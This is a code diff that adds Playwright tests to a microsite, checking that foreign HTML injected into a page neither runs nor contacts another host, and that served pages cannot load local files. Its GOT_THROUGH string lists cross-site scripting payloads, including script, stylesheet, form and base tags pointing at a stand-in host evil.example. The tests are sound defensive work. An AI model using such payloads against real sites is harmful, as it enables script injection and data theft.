@@ -14,6 +14,7 @@ from playwright.sync_api import sync_playwright
 from pypdf import PdfReader
 
 from mapsite.pages.page import PAGES
+from tests.engine.conftest import marks
 
 SCHEME = ".head [data-tool=scheme]"
 
@@ -64,6 +65,7 @@ def opened(chromium, address):
     page.on("requestfailed", note_failure)
     page.on("response", lambda r: complaints.append(r.url) if r.status >= 400 else None)
     page.on("request", lambda r: None if r.url.startswith(origin) else complaints.append(r.url))
+    page.complaints = complaints
     page.goto(address)
     yield page
     context.close()
@@ -185,3 +187,59 @@ def test_without_scripts_no_button_promises_what_it_cannot_do(chromium, address)
     assert page.inner_text("h1") == "overview"
     assert not page.is_visible(".head .tools")
     context.close()
+
+
+# If ever a text got through as HTML: each line would set `ran`, or ask another host.
+GOT_THROUGH = """
+<script>window.ran = 1</script><img src="x:" onerror="window.ran = 1">
+<script src="https://evil.example/x.js"></script><script src="data:,window.ran=1"></script>
+<style>body { color: red }</style><p style="color: red">styled</p>
+<link rel="stylesheet" href="https://evil.example/x.css"><img src="https://evil.example/x.png">
+<iframe srcdoc="<script>parent.ran = 1</script>"></iframe><iframe src="https://evil.example"></iframe>
+<object data="https://evil.example"></object><embed src="data:text/html,x">
+<form action="https://evil.example"><button id="send">Send</button></form>
+<a id="run" href="javascript:window.ran=1">Run</a><svg><script>window.ran = 1</script></svg>
+<base href="https://evil.example/"><video src="https://evil.example/x.mp4"></video>
+"""
+
+
+@pytest.fixture
+def broken_into(site, english):
+    """A page of the microsite with foreign markup in it."""
+    html = english.fill("roles", marks(title="", navigation="", body=GOT_THROUGH, footer=""))
+    path = site / "acme/roles/broken-into.html"
+    path.write_text(html)
+    yield "roles/broken-into.html"
+    path.unlink()
+
+
+def test_foreign_markup_in_a_page_neither_runs_nor_asks_another_host(
+    chromium, address, broken_into
+):
+    context = chromium.new_context()
+    page = context.new_page()
+    answered = []
+    page.on("response", lambda response: answered.append(response.url))
+    here = address.removesuffix("index.html")
+    page.goto(here + broken_into)
+    page.evaluate("document.querySelector('#run').click(), document.querySelector('#send').click()")
+    page.wait_for_timeout(100)
+    assert page.url == here + broken_into
+    assert page.evaluate("window.ran") is None
+    assert page.evaluate("getComputedStyle(document.body).color") != "rgb(255, 0, 0)"
+    assert page.evaluate("document.baseURI") == here + broken_into
+    assert not [url for url in answered if not url.startswith(here.removesuffix("acme/"))]
+    context.close()
+
+
+def test_a_page_from_a_server_loads_no_file_of_its_reader(page, tmp_path):
+    (tmp_path / "secret.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg" width="9"/>')
+    loaded = """uri => new Promise(done => {
+        const image = new Image();
+        image.onload = () => done(true);
+        image.onerror = () => done(false);
+        image.src = uri;
+    })"""
+    with page.expect_console_message():
+        assert page.evaluate(loaded, (tmp_path / "secret.svg").as_uri()) is False
+    page.complaints.clear()
